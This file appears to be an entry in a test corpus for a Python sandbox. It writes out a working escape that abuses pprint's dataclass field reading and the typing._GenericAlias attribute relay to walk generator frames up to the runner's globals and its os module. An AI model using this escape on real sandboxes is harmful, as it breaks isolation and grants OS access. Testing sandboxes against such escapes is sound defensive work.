# technique: the relay of 158 (a dataclass subclass of typing._GenericAlias whose fields are named gi_frame, f_back, f_globals) read by pprint instead of dataclasses.replace: PrettyPrinter._pprint_dataclass reads getattr(obj, field.name) for every field and hands each value to self._format, which a PrettyPrinter subclass (subclassable) overrides to collect them; no dataclasses.replace, no dunder, no private name outside self/cls
# source: pprint dataclass support (getattr by field name) + PrettyPrinter._format override + typing._BaseGenericAlias.__getattr__ relay in a trusted frame

# ---- escape check: tests/corpus/escape_check.py, put here by run_corpus.py ----

import dataclasses, pprint, typing

GA = type(typing.List[int])  # typing._GenericAlias


@dataclasses.dataclass(init=False, eq=False)
class GenFields(GA, _root=True):
    gi_frame: object

    def __init__(self, origin):
        super().__init__(origin, (int,), name='x')


@dataclasses.dataclass(init=False, eq=False)
class FrameFields(GA, _root=True):
    f_back: object
    f_globals: object

    def __init__(self, origin):
        super().__init__(origin, (int,), name='x')


class Collect(pprint.PrettyPrinter):
    def __init__(self):
        super().__init__(width=1)
        self.seen = []

    def _format(self, obj, *rest):
        if isinstance(obj, (GenFields, FrameFields)):
            cls = pprint.PrettyPrinter
            return cls._format(self, obj, *rest)
        self.seen.append(obj)


def fields_of(record):
    p = Collect()
    p.pformat(record)
    return p.seen


def frames():
    fr = fields_of(GenFields(g))[0]
    out = []
    while fr is not None:
        back, glob = fields_of(FrameFields(fr))
        out.append((fr, glob))
        fr = back
    yield out


g = frames()
stack = next(g)

attempt('pprint of GenFields(generator) -> gi_frame', lambda: stack[0][0])
attempt("... f_back chain -> the runner's f_globals", lambda: stack[-1][1])
attempt("... the runner's os", lambda: stack[-1][1]['_os'])
